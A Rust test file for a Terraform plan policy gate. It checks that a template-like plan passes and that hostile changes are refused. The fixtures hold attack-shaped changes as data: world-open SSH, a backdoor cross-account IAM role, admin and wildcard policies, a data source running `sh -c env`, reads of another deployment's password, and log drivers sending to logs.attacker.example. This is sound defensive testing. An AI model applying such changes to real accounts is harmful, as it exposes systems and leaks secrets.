//! The policy gate's second look, on plans shaped like `terraform show -json
//! PLANFILE`: a plan of the kind the `vm` template makes passes, and each
//! hostile change is refused by its rule (and only that rule), including
//! values the files only compute.

use std::collections::BTreeSet;

use infra::choose::Target;
use infra::policy::{PLANNED_CHANGES, Policy, PolicyReport, Rule, check_plan};
use serde_json::{Value, json};

fn policy() -> Policy {
    Policy::for_target(Target::Vm, "ca-central-1", "t2.small")
}

fn change(address: &str, actions: &[&str], before: Value, after: Value) -> Value {
    let (module_path, local) = address.rsplit_once('.').expect("TYPE.NAME");
    let (mode, kind) = match module_path.strip_prefix("data.") {
        Some(kind) => ("data", kind),
        None => ("managed", module_path),
    };
    let provider = kind.split('_').next().unwrap_or_default();
    json!({
        "address": address,
        "mode": mode,
        "type": kind,
        "name": local,
        "provider_name": format!("registry.terraform.io/hashicorp/{provider}"),
        "change": {"actions": actions, "before": before, "after": after},
    })
}

fn create(address: &str, after: Value) -> Value {
    change(address, &["create"], Value::Null, after)
}

const TRUST: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"sts:AssumeRole","Principal":{"Service":"ec2.amazonaws.com"}}]}"#;

/// What the `vm` template plans, trimmed to what the rules read.
fn base_changes() -> Vec<Value> {
    vec![
        create(
            "aws_vpc.main",
            json!({"cidr_block": "10.0.0.0/16", "tags": {"Name": "app"}}),
        ),
        create(
            "aws_security_group.app",
            json!({
                "name": "app",
                "ingress": [{
                    "from_port": 8080, "to_port": 8080, "protocol": "tcp",
                    "cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [],
                    "security_groups": [], "self": false
                }],
                "egress": [{
                    "from_port": 0, "to_port": 0, "protocol": "-1",
                    "cidr_blocks": ["0.0.0.0/0"]
                }]
            }),
        ),
        create(
            "aws_iam_role.app",
            json!({"name": "app-role", "assume_role_policy": TRUST}),
        ),
        create(
            "aws_iam_role_policy.session_manager",
            json!({
                "role": "app-role",
                "policy": r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["ssm:UpdateInstanceInformation","ssmmessages:CreateControlChannel","ssmmessages:CreateDataChannel","ssmmessages:OpenControlChannel","ssmmessages:OpenDataChannel"],"Resource":"*"}]}"#
            }),
        ),
        create(
            "aws_s3_bucket.bundle",
            json!({"bucket": "app-bundle", "id": "app-bundle", "arn": "arn:aws:s3:::app-bundle", "force_destroy": true}),
        ),
        create(
            "aws_iam_role_policy.bundle",
            json!({
                "role": "app-role",
                "policy": r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::app-bundle/*"]}]}"#
            }),
        ),
        create(
            "aws_iam_role_policy.env",
            json!({
                "role": "app-role",
                "policy": r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["ssm:GetParametersByPath","ssm:GetParameters"],"Resource":["arn:aws:ssm:ca-central-1:123456789012:parameter/deployflow/app/env","arn:aws:ssm:ca-central-1:123456789012:parameter/deployflow/app/env/*"]}]}"#
            }),
        ),
        create(
            "aws_instance.app",
            json!({"instance_type": "t2.small", "ami": "ami-0123456789abcdef0"}),
        ),
        change(
            "data.aws_ami.ubuntu",
            &["read"],
            Value::Null,
            json!({"owners": ["099720109477"], "most_recent": true, "filter": [
                {"name": "name", "values": ["ubuntu/images/hvm-ssd-gp3/ubuntu-noble-24.04-amd64-server-*"]},
                {"name": "virtualization-type", "values": ["hvm"]}
            ]}),
        ),
    ]
}

fn plan_with(extra: Vec<Value>, provider_expressions: Value) -> String {
    let mut changes = base_changes();
    changes.extend(extra);
    plan_of(changes, provider_expressions)
}

/// A `show -json` document of `changes`, the managed ones also planned.
fn plan_of(changes: Vec<Value>, provider_expressions: Value) -> String {
    let planned: Vec<Value> = changes
        .iter()
        .filter(|c| c["mode"] == "managed")
        .map(|c| json!({"address": c["address"], "mode": "managed", "type": c["type"], "name": c["name"], "values": c["change"]["after"]}))
        .collect();
    json!({
        "format_version": "1.2",
        "planned_values": {"root_module": {"resources": planned}},
        "resource_changes": changes,
        "configuration": {"provider_config": {"aws": {
            "name": "aws",
            "full_name": "registry.terraform.io/hashicorp/aws",
            "expressions": provider_expressions,
        }}},
    })
    .to_string()
}

fn region() -> Value {
    json!({"region": {"constant_value": "ca-central-1"}})
}

fn check_extra(extra: Vec<Value>) -> PolicyReport {
    check_plan(&plan_with(extra, region()), &policy())
}

fn rules(report: &PolicyReport) -> BTreeSet<Rule> {
    report.rules()
}

#[test]
fn a_plan_like_the_templates_passes() {
    let report = check_extra(vec![]);
    assert!(report.passed, "{:#?}", report.violations);
}

#[test]
fn hostile_planned_changes_are_refused_by_their_rule() {
    let cases: Vec<(&str, Vec<Value>, &[Rule])> = vec![
        (
            "SSH open to the world, its CIDR computed from a tag in the files",
            vec![create(
                "aws_vpc_security_group_ingress_rule.admin",
                json!({"security_group_id": null, "ip_protocol": "tcp", "from_port": 22, "to_port": 22, "cidr_ipv4": "0.0.0.0/0"}),
            )],
            &[Rule::WorldIngress],
        ),
        (
            "two halves of the internet on all ports, as planned",
            vec![create(
                "aws_security_group.wide",
                json!({"ingress": [{"from_port": 0, "to_port": 65535, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/1", "128.0.0.0/1"]}]}),
            )],
            &[Rule::WorldIngress],
        ),
        (
            "a snapshot schedule of instances, as planned",
            vec![create(
                "aws_dlm_lifecycle_policy.data",
                json!({"state": "ENABLED", "policy_details": [{"resource_types": ["INSTANCE"], "target_tags": {"Name": "app-data"}, "schedule": [{"name": "daily", "retain_rule": [{"count": 7}]}]}]}),
            )],
            &[Rule::ForeignResource],
        ),
        (
            "a snapshot schedule keeping a thousand, as planned",
            vec![create(
                "aws_dlm_lifecycle_policy.data",
                json!({"state": "ENABLED", "policy_details": [{"resource_types": ["VOLUME"], "target_tags": {"Name": "app-data"}, "schedule": [{"name": "daily", "retain_rule": [{"count": 1000}]}]}]}),
            )],
            &[Rule::SizeNotBounded],
        ),
        (
            "Action * in a policy the files built with format()",
            vec![create(
                "aws_iam_role_policy.everything",
                json!({"role": "app-role", "policy": r#"{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#}),
            )],
            &[Rule::IamAction],
        ),
        (
            "a trust policy for another account",
            vec![create(
                "aws_iam_role.backdoor",
                json!({"name": "backdoor", "assume_role_policy": r#"{"Statement":[{"Effect":"Allow","Action":"sts:AssumeRole","Principal":{"AWS":"arn:aws:iam::999999999999:root"}}]}"#}),
            )],
            &[Rule::IamPrincipal],
        ),
        (
            "AdministratorAccess attached",
            vec![create(
                "aws_iam_role_policy_attachment.admin",
                json!({"role": "app-role", "policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            )],
            &[Rule::IamManagedPolicy],
        ),
        (
            "a policy attached to an existing role of the account",
            vec![create(
                "aws_iam_role_policy_attachment.theirs",
                json!({"role": "OrganizationAccountAccessRole", "policy_arn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"}),
            )],
            // A VM's roles need no managed policy at all.
            &[Rule::ForeignResource, Rule::IamManagedPolicy],
        ),
        (
            "a rule on a security group this deployment did not create",
            vec![create(
                "aws_security_group_rule.theirs",
                json!({"type": "ingress", "security_group_id": "sg-0123456789abcdef0", "protocol": "tcp", "from_port": 5432, "to_port": 5432, "cidr_blocks": ["10.0.0.0/8"]}),
            )],
            &[Rule::ForeignResource],
        ),
        (
            "an existing resource imported",
            vec![{
                let mut imported =
                    create("aws_s3_bucket.theirs", json!({"bucket": "their-bucket"}));
                imported["change"]["importing"] = json!({"id": "their-bucket"});
                imported
            }],
            &[Rule::ForeignResource],
        ),
        (
            "an SSM parameter of the account read",
            vec![change(
                "data.aws_ssm_parameter.db",
                &["read"],
                Value::Null,
                json!({"name": "/prod/db/password"}),
            )],
            &[Rule::DataSourceScope],
        ),
        (
            "a resource type the target does not use",
            vec![create("aws_iam_user.backdoor", json!({"name": "backdoor"}))],
            &[Rule::ResourceNotAllowed],
        ),
        (
            "a data source that runs a program",
            vec![change(
                "data.external.run",
                &["read"],
                Value::Null,
                json!({"program": ["sh", "-c", "env"]}),
            )],
            // The `external` provider is not allowed either.
            &[Rule::DataSourceForbidden, Rule::ProviderNotAllowed],
        ),
        (
            "an object of a bucket this deployment did not create",
            vec![create(
                "aws_iam_role_policy.loot",
                json!({"role": "app-role", "policy": r#"{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::company-backups/db.sql"}]}"#}),
            )],
            &[Rule::IamAction],
        ),
        (
            "a wildcard glued to this deployment's bucket ARN",
            vec![create(
                "aws_iam_role_policy.prefix",
                json!({"role": "app-role", "policy": r#"{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::app-bundle*"}]}"#}),
            )],
            &[Rule::IamAction],
        ),
        (
            "every deployment's parameters",
            vec![create(
                "aws_iam_role_policy.params",
                json!({"role": "app-role", "policy": r#"{"Statement":[{"Effect":"Allow","Action":"ssm:GetParametersByPath","Resource":"arn:aws:ssm:ca-central-1:123456789012:parameter/deployflow/*"}]}"#}),
            )],
            &[Rule::IamAction],
        ),
        (
            "an instance type the choice did not make",
            vec![create(
                "aws_instance.miner",
                json!({"instance_type": "p4d.24xlarge"}),
            )],
            &[Rule::InstanceTypeNotPinned],
        ),
        (
            "a fleet of instances, each copy its own change",
            (0..11)
                .map(|i| {
                    create(
                        &format!("aws_instance.fleet[{i}]"),
                        json!({"instance_type": "t2.small"}),
                    )
                })
                .collect(),
            &[Rule::SizeNotBounded],
        ),
    ];
    for (what, extra, expected) in cases {
        let report = check_extra(extra);
        assert_eq!(
            rules(&report),
            expected.iter().copied().collect::<BTreeSet<_>>(),
            "{what}: {:#?}",
            report.violations
        );
        assert!(
            report
                .violations
                .iter()
                .all(|v| v.file == PLANNED_CHANGES && v.line.is_none())
        );
    }
}

#[test]
fn a_fleet_is_refused() {
    let plan = json!({"resource_changes": [
        create("aws_ecs_service.app", json!({"name": "app", "desired_count": 500}))
    ]});
    let policy = Policy::for_target(Target::ContainerService, "ca-central-1", "t2.small");
    let report = check_plan(&plan.to_string(), &policy);
    assert_eq!(rules(&report), BTreeSet::from([Rule::SizeNotBounded]));
}

#[test]
fn an_apps_many_variables_pass_and_a_fleet_of_addresses_does_not() {
    // One parameter per variable of the app: forty are an app's, not a fleet.
    let parameters: Vec<Value> = (0..40)
        .map(|i| {
            create(
                &format!("aws_ssm_parameter.env[\"VAR_{i}\"]"),
                json!({"name": format!("/deployflow/app/env/VAR_{i}"), "type": "SecureString"}),
            )
        })
        .collect();
    let report = check_plan(&plan_with(parameters, region()), &policy());
    assert!(report.passed, "{:#?}", report.violations);
    let addresses: Vec<Value> = (0..6)
        .map(|i| create(&format!("aws_eip.spare[{i}]"), json!({"domain": "vpc"})))
        .collect();
    let report = check_extra(addresses);
    assert_eq!(rules(&report), BTreeSet::from([Rule::SizeNotBounded]));
}

#[test]
fn a_resource_from_another_provider_namespace_is_refused() {
    let mut foreign = create(
        "aws_s3_bucket.x",
        json!({"bucket": "x", "force_destroy": true}),
    );
    foreign["provider_name"] = json!("registry.terraform.io/evil/aws");
    assert_eq!(
        rules(&check_extra(vec![foreign])),
        BTreeSet::from([Rule::ProviderNotAllowed])
    );
}

#[test]
fn provider_settings_as_planned_are_checked() {
    let assume = json!({
        "region": {"constant_value": "ca-central-1"},
        "assume_role": [{"role_arn": {"constant_value": "arn:aws:iam::999999999999:role/x"}}],
    });
    let report = check_plan(&plan_with(vec![], assume), &policy());
    assert_eq!(rules(&report), BTreeSet::from([Rule::ProviderArgument]));
    let elsewhere = json!({"region": {"constant_value": "us-east-1"}});
    let report = check_plan(&plan_with(vec![], elsewhere), &policy());
    assert_eq!(rules(&report), BTreeSet::from([Rule::RegionNotPinned]));
}

/// After an interrupted apply the plan holds real ids of this deployment's
/// own resources: they are in the prior state, so they pass; the same id
/// with nothing in the state is someone else's.
#[test]
fn ids_of_this_deployments_state_pass_and_others_do_not() {
    let rule = create(
        "aws_vpc_security_group_ingress_rule.app",
        json!({"security_group_id": "sg-0aaaaaaaaaaaaaaaa", "ip_protocol": "tcp", "from_port": 8080, "to_port": 8080, "cidr_ipv4": "0.0.0.0/0"}),
    );
    let mut plan: Value = serde_json::from_str(&plan_with(vec![rule], region())).unwrap();
    let refused = check_plan(&plan.to_string(), &policy());
    assert_eq!(rules(&refused), BTreeSet::from([Rule::ForeignResource]));
    plan["prior_state"] = json!({"values": {"root_module": {"resources": [
        {"address": "aws_security_group.app", "mode": "managed", "type": "aws_security_group",
         "values": {"id": "sg-0aaaaaaaaaaaaaaaa", "name": "app"}}
    ]}}});
    let report = check_plan(&plan.to_string(), &policy());
    assert!(report.passed, "{:#?}", report.violations);
}

/// A name of this deployment passes only where it names the kind of resource
/// the argument takes: a log group named like an existing bucket is the
/// author's text, and passed as `bucket` it names that bucket.
#[test]
fn an_own_name_of_another_type_is_refused() {
    let log_group = create(
        "aws_cloudwatch_log_group.app",
        json!({"name": "company-backups", "arn": "arn:aws:logs:ca-central-1:123456789012:log-group:company-backups"}),
    );
    let block = |bucket: &str| {
        create(
            "aws_s3_bucket_public_access_block.bundle",
            json!({"bucket": bucket, "block_public_acls": true, "block_public_policy": true,
                   "ignore_public_acls": true, "restrict_public_buckets": true}),
        )
    };
    let refused = check_extra(vec![log_group.clone(), block("company-backups")]);
    assert_eq!(rules(&refused), BTreeSet::from([Rule::ForeignResource]));
    assert!(
        refused.violations[0].message.contains("aws_s3_bucket"),
        "{:#?}",
        refused.violations
    );
    // The bucket's own name passes.
    let report = check_extra(vec![log_group, block("app-bundle")]);
    assert!(report.passed, "{:#?}", report.violations);
}

/// An update that changes nothing is not checked again: the state's values
/// passed when they were planned. One that changes anything is checked
/// whole: a port changed under an unchanged world-open CIDR opens the port
/// to the world.
#[test]
fn an_update_is_checked_on_what_it_changes() {
    let before = json!({"name": "app-role", "assume_role_policy": TRUST, "arn": "arn:aws:iam::123456789012:role/app-role"});
    let mut after = before.clone();
    after["assume_role_policy"] = json!(
        r#"{"Statement":[{"Effect":"Allow","Action":"sts:AssumeRole","Principal":{"AWS":"*"}}]}"#
    );
    let widened = change("aws_iam_role.app", &["update"], before.clone(), after);
    assert_eq!(
        rules(&check_extra(vec![widened])),
        BTreeSet::from([Rule::IamPrincipal])
    );
    let unchanged = change("aws_iam_role.app", &["update"], before.clone(), before);
    assert!(check_extra(vec![unchanged]).passed);

    let rule = json!({
        "security_group_id": "sg-0123456789abcdef0", "ip_protocol": "tcp",
        "from_port": 8080, "to_port": 8080, "cidr_ipv4": "0.0.0.0/0",
    });
    let mut to_ssh = rule.clone();
    to_ssh["from_port"] = json!(22);
    to_ssh["to_port"] = json!(22);
    let reopened = change(
        "aws_vpc_security_group_ingress_rule.app",
        &["update"],
        rule.clone(),
        to_ssh,
    );
    assert!(
        rules(&check_extra(vec![reopened])).contains(&Rule::WorldIngress),
        "port 22 opened to the world by an update of the port alone"
    );
}

/// An update whose changed values Terraform knows only at apply is
/// checked on all it plans; a resource the plan forgets is refused.
#[test]
fn an_update_to_unknown_values_and_a_forgotten_resource_are_checked() {
    let rule = json!({
        "security_group_id": "sg-0123456789abcdef0", "ip_protocol": "tcp",
        "from_port": 22, "to_port": 22, "cidr_ipv4": "0.0.0.0/0",
    });
    let mut planned = rule.clone();
    planned.as_object_mut().unwrap().remove("description");
    let mut update = change(
        "aws_vpc_security_group_ingress_rule.app",
        &["update"],
        rule.clone(),
        planned,
    );
    update["change"]["after_unknown"] = json!({"description": true});
    assert!(
        rules(&check_extra(vec![update.clone()])).contains(&Rule::WorldIngress),
        "the unchanged known values are read with the unknown one"
    );
    update["change"]["after_unknown"] = json!({});
    assert!(!rules(&check_extra(vec![update])).contains(&Rule::WorldIngress));

    let forgotten = change(
        "aws_s3_bucket.bundle",
        &["forget"],
        json!({"bucket": "b"}),
        Value::Null,
    );
    assert!(rules(&check_extra(vec![forgotten])).contains(&Rule::Lifecycle));
}

#[test]
fn what_is_not_a_plan_is_a_parse_error() {
    for text in ["not json", "[]", "42"] {
        let report = check_plan(text, &policy());
        assert_eq!(rules(&report), BTreeSet::from([Rule::ParseError]), "{text}");
    }
}

/// This deployment's image repository, as a plan creates it.
const REPOSITORY: &str = "123456789012.dkr.ecr.ca-central-1.amazonaws.com/df-app";

fn own_repository() -> Value {
    create(
        "aws_ecr_repository.app",
        json!({"name": "df-app", "repository_url": REPOSITORY}),
    )
}

/// The container service's plan of one task whose app container has the
/// own image and `container` merged in, beside `other`.
fn task_plan(container: Value, other: Value) -> PolicyReport {
    let mut app = json!({"name": "app", "image": format!("{REPOSITORY}:abc")});
    if let (Some(app), Some(extra)) = (app.as_object_mut(), container.as_object()) {
        app.extend(extra.clone());
    }
    let changes = vec![
        own_repository(),
        other,
        create(
            "aws_ecs_task_definition.app",
            json!({"family": "df-app", "cpu": "256", "memory": "512",
                   "container_definitions": json!([app]).to_string()}),
        ),
    ];
    let service = Policy::for_target(Target::ContainerService, "ca-central-1", "");
    check_plan(&plan_of(changes, region()), &service)
}

/// A planned image is checked against this deployment's own repository,
/// once the plan knows its URL; the function's name the plan knows names
/// the function it creates.
#[test]
fn a_planned_image_is_the_own_repositorys() {
    let policy = Policy::for_target(Target::Serverless, "ca-central-1", "");
    let repository = REPOSITORY;
    let plan = |image: &str| {
        let changes = vec![
            own_repository(),
            create(
                "aws_lambda_function.app",
                json!({"function_name": "df-app", "package_type": "Image", "image_uri": image}),
            ),
            // Known at plan: the function's own name, which is no reference
            // to an existing function.
            create(
                "aws_lambda_function_url.app",
                json!({"function_name": "df-app", "authorization_type": "NONE"}),
            ),
        ];
        plan_of(changes, region())
    };
    let own = check_plan(&plan(&format!("{repository}:abc123")), &policy);
    assert!(own.passed, "{:#?}", own.violations);
    let theirs = check_plan(
        &plan("123456789012.dkr.ecr.ca-central-1.amazonaws.com/payments-api:latest"),
        &policy,
    );
    assert_eq!(rules(&theirs), BTreeSet::from([Rule::ForeignResource]));
}

/// What the app prints goes to this deployment's own log group, as
/// planned: a function logging into another's group, or a container
/// through another log driver, is refused.
#[test]
fn planned_logs_go_to_the_own_log_group() {
    let serverless = Policy::for_target(Target::Serverless, "ca-central-1", "");
    let repository = REPOSITORY;
    let function = |group: &str| {
        let changes = vec![
            own_repository(),
            create(
                "aws_cloudwatch_log_group.app",
                json!({"name": "/aws/lambda/df-app", "retention_in_days": 14}),
            ),
            create(
                "aws_lambda_function.app",
                json!({"function_name": "df-app", "package_type": "Image",
                       "image_uri": format!("{repository}:abc"),
                       "logging_config": [{"log_format": "Text", "log_group": group}]}),
            ),
        ];
        check_plan(&plan_of(changes, region()), &serverless)
    };
    let own = function("/aws/lambda/df-app");
    assert!(own.passed, "{:#?}", own.violations);
    assert_eq!(
        rules(&function("/aws/lambda/payments-api")),
        BTreeSet::from([Rule::ForeignResource])
    );

    let task = |log_configuration: Value| {
        let log_group = create(
            "aws_cloudwatch_log_group.app",
            json!({"name": "/ecs/df-app", "retention_in_days": 14}),
        );
        task_plan(json!({"logConfiguration": log_configuration}), log_group)
    };
    let awslogs = |group: &str| {
        json!({"logDriver": "awslogs", "options": {"awslogs-group": group,
               "awslogs-region": "ca-central-1", "awslogs-stream-prefix": "app"}})
    };
    let own = task(awslogs("/ecs/df-app"));
    assert!(own.passed, "{:#?}", own.violations);
    for (what, config) in [
        ("another's group", awslogs("/ecs/payments-api")),
        (
            "the splunk driver",
            json!({"logDriver": "splunk", "options": {"splunk-url": "https://logs.attacker.example"}}),
        ),
        (
            "an extra awslogs option",
            json!({"logDriver": "awslogs", "options": {"awslogs-group": "/ecs/df-app",
                   "awslogs-endpoint": "https://logs.attacker.example"}}),
        ),
    ] {
        assert_eq!(
            rules(&task(config)),
            BTreeSet::from([Rule::ForeignResource]),
            "{what}"
        );
    }
}

/// A container's secrets come from this deployment's own parameters and
/// secrets, as planned: another of the account would be read into the
/// app's environment.
#[test]
fn planned_container_secrets_are_the_deployments_own() {
    let secret_arn = "arn:aws:secretsmanager:ca-central-1:123456789012:secret:df-app-env-AbCdEf";
    let task = |value_from: &str| {
        let secret = create(
            "aws_secretsmanager_secret.store_env",
            json!({"name": "df-app-env", "arn": secret_arn}),
        );
        task_plan(
            json!({"secrets": [{"name": "DATABASE_URL", "valueFrom": value_from}]}),
            secret,
        )
    };
    let own = task(&format!("{secret_arn}:DATABASE_URL::"));
    assert!(own.passed, "{:#?}", own.violations);
    assert_eq!(
        rules(&task("/prod/db/password")),
        BTreeSet::from([Rule::ForeignResource])
    );
}
